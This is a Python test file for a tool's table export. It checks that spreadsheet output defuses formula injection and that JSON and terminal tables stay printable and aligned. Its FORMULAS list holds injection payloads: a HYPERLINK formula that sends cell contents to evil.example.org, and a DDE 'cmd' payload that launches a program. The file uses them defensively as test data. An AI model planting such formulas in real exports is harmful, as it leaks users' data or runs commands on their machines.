"""Rows for people and for programs: what each format makes of texts that somebody else chose."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hostile_text import TEXT
from hypothesis import given

from arcacct.cli.tables import lines

FORMULAS = [
    '=HYPERLINK("https://evil.example.org/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


def in_format(form: str, *row: object) -> str:
    columns = [f"c{number}" for number in range(len(row))]
    return "".join(f"{line}\n" for line in lines(columns, [row], form))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_gets_no_formula_from_a_job(formula) -> None:
    """A text that a spreadsheet would run is one that begins with an apostrophe; nothing else of it changes."""
    (_head, (cell,)) = csv.reader(io.StringIO(in_format("spreadsheet", formula), newline=""))

    assert cell == "'" + formula.replace("\t", r"\t").replace("\r", r"\r").replace("\n", r"\n")


def test_a_spreadsheet_gets_numbers_as_numbers() -> None:
    """Amounts, negative ones as well, and ordinary names are what they are; empty cells are empty."""
    text = in_format("spreadsheet", -5, 1.5, None, "atlas", "a=b", "x;=1+1")

    assert text.splitlines()[1] == '-5,1.5,"","atlas","a=b","x;=1+1"'


def test_csv_for_programs_has_every_text_as_it_is() -> None:
    """Without being asked for a spreadsheet nothing is put before a text."""
    for formula in FORMULAS:
        (_head, (cell,)) = csv.reader(io.StringIO(in_format("csv", formula), newline=""))
        assert cell == formula


@given(TEXT)
def test_json_has_every_text_in_characters_that_can_be_seen(text) -> None:
    """What is read from it is what was recorded, and a terminal that shows it is not steered."""
    out = in_format("json", text)

    assert json.loads(out) == [{"c0": text}]
    assert out.replace("\n", "").isprintable()


@given(TEXT)
def test_a_table_has_one_line_for_each_row(text) -> None:
    """Whatever a name contains, and however long it is."""
    out = in_format("table", text, 7)

    assert len(out.split("\n")) == 4
    assert out.replace("\n", "").isprintable()
    assert len(out) < 3 * 1100


def test_a_table_is_aligned_where_letters_are_wide() -> None:
    """A terminal shows signs of East Asia in two columns, and marks above letters in none."""
    rows = [("\u65e5\u672c", 7), ("e\u0301", 12), ("atlas", 1)]

    assert list(lines(["vo", "jobs"], rows, "table")) == [
        "vo     jobs",
        "-----  ----",
        "\u65e5\u672c      7",
        "e\u0301        12",
        "atlas     1",
    ]
